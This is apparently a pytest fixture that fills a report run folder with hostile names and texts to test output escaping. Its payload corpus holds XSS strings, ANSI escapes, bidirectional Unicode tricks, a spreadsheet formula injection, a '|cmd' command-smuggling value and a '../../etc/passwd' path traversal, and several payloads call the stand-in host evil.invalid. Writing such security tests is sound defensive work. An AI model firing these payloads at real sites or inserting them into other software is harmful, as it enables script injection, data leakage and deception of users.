"""A run folder in which every name and text attacks: HTML, scripts, CSS, URLs, terminals, reading order."""

from itertools import cycle, islice
from pathlib import Path

import facts_fixture  # the folder of both is made known by conftest
import numpy as np
import pyarrow as pa
import pytest
import report_fixture

from quadmix.io.atomic import read_json, read_table, write_json, write_table, write_text
from quadmix.recipe import check_recipe, dump_recipe

RUN = "window.pwned=1;document.title='pwned'"
XSS = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<!--<script>{RUN}//-->",
    f"<img src=x onerror=\"{RUN};fetch('http://evil.invalid/')\">",
    f"<svg onload=\"{RUN}\"><use href='http://evil.invalid/a.svg#x'/></svg>",
    f'\'"><iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "<link rel=stylesheet href=http://evil.invalid/x.css><style>*{background:url(http://evil.invalid/y)}</style>",
    f'<a href="javascript:{RUN}">x</a><base href="http://evil.invalid/">',
    "<meta http-equiv=refresh content='0;url=http://evil.invalid/'>",
    f'<form action="http://evil.invalid/"><input autofocus onfocus="{RUN}"></form>',
    f"]]></style><script>{RUN}</script><![CDATA[",
    f"<details open ontoggle=\"{RUN}\"><object data='http://evil.invalid/'></object></details>",
    f'<video src=x onerror="{RUN}"></video><math><mtext><script>{RUN}</script></mtext></math>',
    "{{constructor.constructor('window.pwned=1')()}}${window.pwned=1}",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e&lt;script&gt;{RUN}&lt;/script&gt;",
    f"<\x00script>{RUN}</script>\x0b<\x7fimg src=x onerror={RUN}>",
)
ANSI = (
    "\x1b[31mred\x1b[0m\x1b]8;;http://evil.invalid\x07link\x1b]8;;\x07",
    "\x9b2J\x08\x08\x08over\rwritten",
)
BIDI = (
    "user\u202e\u2066// admin\u2069\u2066", "\u2067\u202dabc\u202c\u2069 \u200fexe.gpj",
    "\u061c\u200e\u2028\u2029",
    "hid\u200bden\u00ad\ufeff\u2060 \U000e0041\U000e0042", "lone \ufffe \uffff",
)  # fmt: skip
NUMBERS = ("__proto__", "constructor", '=HYPERLINK("http://evil.invalid")', "-1+1|cmd", "../../etc/passwd")
CORPUS = (*XSS, *ANSI, *BIDI, *NUMBERS)


def hostile_run(folder: Path) -> Path:
    """Write a run folder whose criteria, targets, domains, sources, languages, ids, texts, strata, reasons,
    warnings, facts and recipe are of the corpus."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(report_fixture, "CRITERIA", CORPUS[:3])
        patch.setattr(report_fixture, "TARGETS", CORPUS[3:5])
        patch.setattr(report_fixture, "NASTY_DOMAINS", tuple(f"{a} {i}" for i, a in enumerate(CORPUS[5:11])))
        report_fixture.make_run(folder, documents=400, nasty=True)
        patch.setattr(facts_fixture, "CRITERIA", CORPUS[:3])
        patch.setattr(facts_fixture, "ATTACK", "".join(CORPUS))
        facts_fixture.add_facts(folder, nasty=True)
    _samples(folder / "samples.parquet")
    for path in [*folder.glob("stages/*.json"), folder / "identity.json"]:
        facts = {f"{place} {text}": text for place, text in enumerate(CORPUS)}
        data = read_json(path)
        write_json(path, {**data, "facts": facts, "warnings": list(CORPUS), "note": CORPUS[0]})
    for path, text in zip(sorted(folder.glob("trials/*.json")), cycle(CORPUS), strict=False):
        write_json(path, {**read_json(path), "reason": text})
    recipe = {**report_fixture.RECIPE, "corpus": {"paths": [f"/data/{text}" for text in XSS]}}
    write_text(folder / "recipe.resolved.yaml", dump_recipe(check_recipe(recipe)))
    return folder


def _samples(path: Path) -> None:
    """Give every sample a text, an id and (some) a stratum of the corpus; the numbers stay."""
    table = read_table(path)
    n = len(table)
    corpus = list(islice(cycle(CORPUS), n))
    columns = {name: table[name] for name in table.column_names}
    columns["text"] = pa.array([f"{a}\n{b}" for a, b in zip(corpus, np.roll(corpus, 5), strict=True)])
    columns["doc_id"] = pa.array([f"{i} {a}" for i, a in enumerate(np.roll(corpus, 2))])
    columns["stratum"] = pa.array(list(islice(cycle(CORPUS[:9]), n)))
    write_table(path, pa.table(columns))
